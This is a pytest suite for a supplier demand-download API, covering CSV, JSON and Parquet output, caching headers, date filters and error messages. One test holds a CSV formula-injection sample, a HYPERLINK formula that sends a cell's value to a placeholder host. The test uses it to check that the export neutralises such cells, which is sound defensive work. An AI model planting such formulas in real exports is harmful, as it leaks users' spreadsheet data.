"""Supplier downloads: each format parsed back equals that supplier's snapshot rows, and only those."""

from __future__ import annotations

import io
import json

import polars as pl
import pytest
from fastapi.testclient import TestClient
from polars.testing import assert_frame_equal

from tests.api.conftest import bearer
from tests.api.world import small_world

ISO = "%Y-%m-%dT%H:%M:%S%:z"


def expected(supplier: str) -> pl.DataFrame:
    world = small_world()
    names = world["products"].select("product_id", pl.col("name").alias("product_name"))
    return (
        world["demand"]
        .filter(pl.col("supplier_id") == supplier)
        .with_columns(pl.lit(None, pl.String).alias("suggestion_note"))
        .join(names, on="product_id", how="left", maintain_order="left")
    )


def as_text(frame: pl.DataFrame) -> pl.DataFrame:
    """Every column as the text a CSV / JSON reader sees (dates ISO, nulls empty)."""
    return frame.select(
        pl.col(c).dt.to_string("%Y-%m-%d") if frame.schema[c] == pl.Date else pl.col(c).cast(pl.String)
        for c in frame.columns
    )


@pytest.mark.parametrize("supplier", ["SUP1", "SUP2"])
def test_parquet_round_trip(client: TestClient, keys: dict[str, str], supplier: str) -> None:
    r = client.get(f"/v1/suppliers/{supplier}/demand?format=parquet", headers=bearer(keys[supplier]))
    assert r.status_code == 200 and r.headers["content-type"] == "application/vnd.apache.parquet"
    got = pl.read_parquet(io.BytesIO(r.content))
    assert_frame_equal(got, expected(supplier))
    assert set(got["supplier_id"]) == {supplier}


def test_csv_round_trip_with_bom_and_chinese(client: TestClient, keys: dict[str, str]) -> None:
    r = client.get("/v1/suppliers/SUP1/demand?format=csv", headers=bearer(keys["SUP1"]))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: a spreadsheet reads the Chinese names right
    assert "有机鸡蛋 30枚" in r.content.decode("utf-8-sig")
    got = pl.read_csv(io.BytesIO(r.content[3:]), infer_schema=False)
    want = as_text(expected("SUP1"))
    assert_frame_equal(got, want)
    disposition = r.headers["content-disposition"]
    assert 'filename="demand_SUP1_2026-11-22.csv"' in disposition


def test_json_round_trip(client: TestClient, keys: dict[str, str]) -> None:
    r = client.get("/v1/suppliers/SUP1/demand?format=json", headers=bearer(keys["SUP1"]))
    body = json.loads(r.content)
    assert body["supplier_id"] == "SUP1" and body["snapshot"] == "run-1"
    assert body["as_of"] == "2026-11-22"  # every row is of that day: said, as a filtered download does
    got = pl.DataFrame(body["rows"], infer_schema_length=None)
    want = expected("SUP1")
    assert got.columns == want.columns
    assert_frame_equal(as_text(got), as_text(want))
    assert "demand_SUP1_2026-11-22.json" in r.headers["content-disposition"]


def test_etag_and_last_modified(client: TestClient, keys: dict[str, str]) -> None:
    h = bearer(keys["SUP1"])
    first = client.get("/v1/suppliers/SUP1/demand?format=csv", headers=h)
    etag, modified = first.headers["etag"], first.headers["last-modified"]
    again = client.get("/v1/suppliers/SUP1/demand?format=csv", headers=h | {"If-None-Match": etag})
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == etag
    since = client.get("/v1/suppliers/SUP1/demand?format=csv", headers=h | {"If-Modified-Since": modified})
    assert since.status_code == 304
    stale = client.get("/v1/suppliers/SUP1/demand?format=csv", headers=h | {"If-None-Match": '"other"'})
    assert stale.status_code == 200 and stale.content == first.content
    other_format = client.get("/v1/suppliers/SUP1/demand?format=json", headers=h)
    assert other_format.headers["etag"] != etag


def test_as_of_filter(client: TestClient, keys: dict[str, str]) -> None:
    h = bearer(keys["SUP1"])
    r = client.get("/v1/suppliers/SUP1/demand?format=json&as_of=2026-11-22", headers=h)
    assert len(r.json()["rows"]) == 4 and r.json()["as_of"] == "2026-11-22"
    r = client.get("/v1/suppliers/SUP1/demand?format=json&as_of=2026-01-01", headers=h)
    assert r.status_code == 404 and r.json()["error"] == "no_demand_for_date"
    r = client.get("/v1/suppliers/SUP1/demand?format=xlsx", headers=h)
    assert r.status_code == 422 and "query.format" in r.json()["detail"]


def test_campaign_demand(client: TestClient, keys: dict[str, str]) -> None:
    body = client.get("/v1/campaigns/C1/demand", headers=bearer(keys["SUP1"])).json()
    assert body["supplier_id"] == "SUP1" and body["name"] == "有机鸡蛋 30枚"
    assert [w["warehouse_id"] for w in body["warehouses"]] == ["W1", "W2"]
    assert body["totals"]["ordered_qty"] == 160 and body["totals"]["suggested_qty"] == 270
    # two warehouses: the summed P90 is each warehouse's bound added, and the answer says so
    assert body["totals"]["forecast_p90"] == sum(w["forecast_p90"] for w in body["warehouses"])
    assert "sums of each warehouse's bounds" in body["totals_note"]


def test_supplier_without_rows_gets_an_empty_file_with_the_header(tmp_path) -> None:
    from api.app import create_app
    from api.keys import create_key
    from common.home import Home
    from tests.api.conftest import FAST
    from tests.api.world import write_snapshot

    world = small_world()
    extra = pl.DataFrame(
        {
            "product_id": ["P9"],
            "supplier_id": ["SUP3"],
            "name": ["新品"],
            "category": ["fresh"],
            "price": [9.9],
        }
    )
    world["products"] = pl.concat([world["products"], extra])
    home = Home(tmp_path / "h").ensure()
    write_snapshot(home, world, run_id="r-empty")
    key = create_key(home, "supplier", "SUP3")
    with TestClient(create_app(home, FAST)) as client:
        r = client.get("/v1/suppliers/SUP3/demand?format=csv", headers=bearer(key))
        assert r.status_code == 200
        assert r.content.decode("utf-8-sig").splitlines() == [",".join([*expected("SUP1").columns])]
        r = client.get("/v1/suppliers/SUP3/demand?format=parquet", headers=bearer(key))
        assert pl.read_parquet(io.BytesIO(r.content)).height == 0


def test_as_of_is_the_platform_day_of_a_zoned_stamp(tmp_path) -> None:
    """as_of 2026-11-29T00:00+08:00 is the 29th (the platform's day), not the UTC date (the 28th)."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from api.app import create_app
    from api.keys import create_key
    from common.home import Home
    from tests.api.conftest import FAST
    from tests.api.world import write_snapshot

    world = small_world()
    stamp = datetime(2026, 11, 29, tzinfo=ZoneInfo("Asia/Shanghai"))
    world["demand"] = world["demand"].with_columns(
        pl.lit(stamp).cast(pl.Datetime("us", "Asia/Shanghai")).alias("as_of")
    )
    home = Home(tmp_path / "h").ensure()
    write_snapshot(home, world, run_id="r-zoned")
    key = create_key(home, "supplier", "SUP1")
    with TestClient(create_app(home, FAST)) as client:
        r = client.get("/v1/suppliers/SUP1/demand?format=csv&as_of=2026-11-29", headers=bearer(key))
        assert r.status_code == 200, r.text
        assert 'filename="demand_SUP1_2026-11-29.csv"' in r.headers["content-disposition"]
        assert "2026-11-29T00:00:00+08:00" in r.content.decode("utf-8-sig")
        r = client.get("/v1/suppliers/SUP1/demand?format=json", headers=bearer(key))
        assert "demand_SUP1_2026-11-29.json" in r.headers["content-disposition"]
        r = client.get("/v1/suppliers/SUP1/demand?format=json&as_of=2026-11-28", headers=bearer(key))
        assert r.status_code == 404 and "as-of dates held: 2026-11-29" in r.json()["detail"]


def test_csv_neutralises_formulas_json_and_parquet_stay_raw(tmp_path) -> None:
    """Text cells starting with = + - @ tab CR get a leading ' in CSV only; numbers stay numbers."""
    import csv

    from api.app import create_app
    from api.keys import create_key
    from common.home import Home
    from tests.api.conftest import FAST
    from tests.api.world import write_snapshot

    evil = '=HYPERLINK("http://x.test/?"&A1,"点此")'
    names = {"P1": evil, "P2": "-20% 特价大米", "P3": "@SUM(1+1)"}
    world = small_world()
    world["products"] = world["products"].with_columns(
        pl.col("product_id").replace_strict(names, default=pl.col("name")).alias("name")
    )
    world["demand"] = world["demand"].with_columns(
        pl.when(pl.col("product_id") == "P3").then(-5).otherwise("ordered_qty").alias("ordered_qty"),
        pl.when(pl.col("product_id") == "P2")
        .then(pl.lit("\tW1"))
        .otherwise("warehouse_id")
        .alias("warehouse_id"),
    )
    home = Home(tmp_path / "h").ensure()
    write_snapshot(home, world, run_id="r-formula")
    key = create_key(home, "supplier", "SUP1")
    with TestClient(create_app(home, FAST)) as client:
        r = client.get("/v1/suppliers/SUP1/demand?format=csv", headers=bearer(key))
        rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
        by_product = {row["product_id"]: row for row in rows}
        assert by_product["P1"]["product_name"] == "'" + evil
        assert by_product["P2"]["product_name"] == "'-20% 特价大米"
        assert by_product["P2"]["warehouse_id"] == "'\tW1"
        assert by_product["P3"]["product_name"] == "'@SUM(1+1)"
        assert by_product["P3"]["ordered_qty"] == "-5"  # a negative number is data, not a name
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for k, v in row.items()
                   if k != "ordered_qty")
        body = client.get("/v1/suppliers/SUP1/demand?format=json", headers=bearer(key)).json()
        assert {row["product_name"] for row in body["rows"]} >= {evil, "-20% 特价大米", "@SUM(1+1)"}
        raw = client.get("/v1/suppliers/SUP1/demand?format=parquet", headers=bearer(key)).content
        assert evil in pl.read_parquet(io.BytesIO(raw))["product_name"].to_list()


def test_a_zero_suggestion_with_a_positive_median_says_why(tmp_path) -> None:
    """suggested 0 with P50 >= 1: the CSV row and the supplier page give the critical ratio and method."""
    from tests.api.conftest import csv_rows, supplier_serving

    world = small_world()
    world["demand"] = world["demand"].with_columns(
        pl.when(pl.col("product_id") == "P2").then(0).otherwise("suggested_qty").alias("suggested_qty"),
        pl.when(pl.col("product_id") == "P2").then(0.05).otherwise(0.8).alias("critical_ratio"),
    )
    with supplier_serving(tmp_path / "h", world, "r-zero") as (client, key):
        rows = csv_rows(client, key)
        note = rows["P2"]["suggestion_note"]
        assert rows["P2"]["suggested_qty"] == "0" and rows["P2"]["critical_ratio"] == "0.05"
        assert "critical ratio 0.05" in note and "5% quantile" in note and "presale_curve" in note
        assert rows["P1"]["suggestion_note"] == ""  # a non-zero suggestion needs no note
        client.post("/login", data={"key": key})
        page = client.get("/supplier").text  # in Chinese by default
        assert "临界比" in page and "临界比 0.05（毛利 / 售价）" in page and "5% 分位" in page
        page = client.get("/supplier?lang=en").text
        assert "Critical ratio" in page and "critical ratio 0.05 (margin / price)" in page


def test_csv_rounds_its_floats_json_and_parquet_keep_full_precision(tmp_path) -> None:
    """A spreadsheet gets 20.25 and 0.191, not 20.250918355523606 and 0.1908675799086758 (trial 2)."""
    import csv

    from api.app import create_app
    from api.keys import create_key
    from common.home import Home
    from tests.api.conftest import FAST
    from tests.api.world import write_snapshot

    world = small_world()
    world["demand"] = world["demand"].with_columns(
        pl.when(pl.col("product_id") == "P2").then(20.250918355523606).otherwise("forecast_p50")
        .alias("forecast_p50"),
        pl.lit(0.1908675799086758).alias("critical_ratio"),
        pl.lit(0.98765).alias("expected_fill_rate"),
        pl.lit(3.14159).alias("expected_leftover"),
    )
    home = Home(tmp_path / "h").ensure()
    write_snapshot(home, world, run_id="r-floats")
    key = create_key(home, "supplier", "SUP1")
    with TestClient(create_app(home, FAST)) as client:
        r = client.get("/v1/suppliers/SUP1/demand?format=csv", headers=bearer(key))
        rows = {row["product_id"]: row for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))}
        assert rows["P2"]["forecast_p50"] == "20.25" and rows["P3"]["forecast_p50"] == "12.0"
        assert rows["P2"]["critical_ratio"] == "0.191" and rows["P2"]["expected_fill_rate"] == "0.988"
        assert rows["P2"]["expected_leftover"] == "3.14"
        assert rows["P2"]["ordered_qty"] == "15" and rows["P2"]["suggested_qty"] == "38"  # integers: as is
        body = client.get("/v1/suppliers/SUP1/demand?format=json", headers=bearer(key)).json()
        p2 = next(row for row in body["rows"] if row["product_id"] == "P2")
        assert p2["forecast_p50"] == 20.250918355523606 and p2["critical_ratio"] == 0.1908675799086758
        raw = client.get("/v1/suppliers/SUP1/demand?format=parquet", headers=bearer(key)).content
        parquet = pl.read_parquet(io.BytesIO(raw))
        assert 20.250918355523606 in parquet["forecast_p50"].to_list()
        assert parquet["critical_ratio"].to_list()[0] == 0.1908675799086758


def test_a_campaign_without_demand_rows_is_404_no_demand(tmp_path) -> None:
    """A campaign of the snapshot that no demand row is about: 404 `no_demand` saying the snapshot's
    day, not 200 with zeros and no warehouses (trial 2)."""
    from api.app import create_app
    from api.keys import create_key
    from common.home import Home
    from tests.api.conftest import FAST
    from tests.api.world import write_snapshot

    world = small_world()
    extra = world["campaigns"].head(1).with_columns(pl.lit("C0").alias("campaign_id"))
    world["campaigns"] = pl.concat([world["campaigns"], extra])
    home = Home(tmp_path / "h").ensure()
    write_snapshot(home, world, run_id="r-nodemand")
    admin, owner = create_key(home, "admin", "ops"), create_key(home, "supplier", "SUP1")
    other = create_key(home, "supplier", "SUP2")
    with TestClient(create_app(home, FAST)) as client:
        for key in (admin, owner):
            r = client.get("/v1/campaigns/C0/demand", headers=bearer(key))
            assert r.status_code == 404, r.text
            assert r.json()["error"] == "no_demand"
            assert "no demand rows" in r.json()["detail"] and "as of 2026-11-22" in r.json()["detail"]
        assert client.get("/v1/campaigns/C0/demand", headers=bearer(other)).status_code == 403  # not theirs
        assert client.get("/v1/campaigns/C1/demand", headers=bearer(owner)).status_code == 200


def test_a_closed_or_later_campaign_is_404_saying_when_it_closed_or_opens(tmp_path) -> None:
    """A supplier asking for a campaign that closed yesterday reads that it closed and when, not
    "nothing was pooled"; one that opens after the demand's lookahead reads when it opens."""
    from datetime import datetime

    from api.app import create_app
    from api.keys import create_key
    from common.clock import TZ
    from common.home import Home
    from tests.api.conftest import FAST
    from tests.api.world import write_snapshot

    world = small_world()  # the snapshot's day: 2026-11-22
    first = world["campaigns"].head(1)
    closed = first.with_columns(pl.lit("C-closed").alias("campaign_id"),
                                pl.lit(datetime(2026, 11, 21, 20, 0, tzinfo=TZ)).alias("closes_at"))
    later = first.with_columns(pl.lit("C-later").alias("campaign_id"),
                               pl.lit(datetime(2026, 11, 30, 8, 0, tzinfo=TZ)).alias("opens_at"),
                               pl.lit(datetime(2026, 12, 1, 20, 0, tzinfo=TZ)).alias("closes_at"))
    world["campaigns"] = pl.concat([world["campaigns"], closed, later], how="vertical_relaxed")
    home = Home(tmp_path / "h").ensure()
    write_snapshot(home, world, run_id="r-closed")
    owner = create_key(home, "supplier", "SUP1")
    with TestClient(create_app(home, FAST)) as client:
        r = client.get("/v1/campaigns/C-closed/demand", headers=bearer(owner))
        assert r.status_code == 404 and r.json()["error"] == "no_demand"
        assert "it closed at 2026-11-21 20:00 (platform time)" in r.json()["detail"]
        assert "nothing was pooled" not in r.json()["detail"]
        r = client.get("/v1/campaigns/C-later/demand", headers=bearer(owner))
        assert r.status_code == 404 and "it opens at 2026-11-30 08:00 (platform time)" in r.json()["detail"]
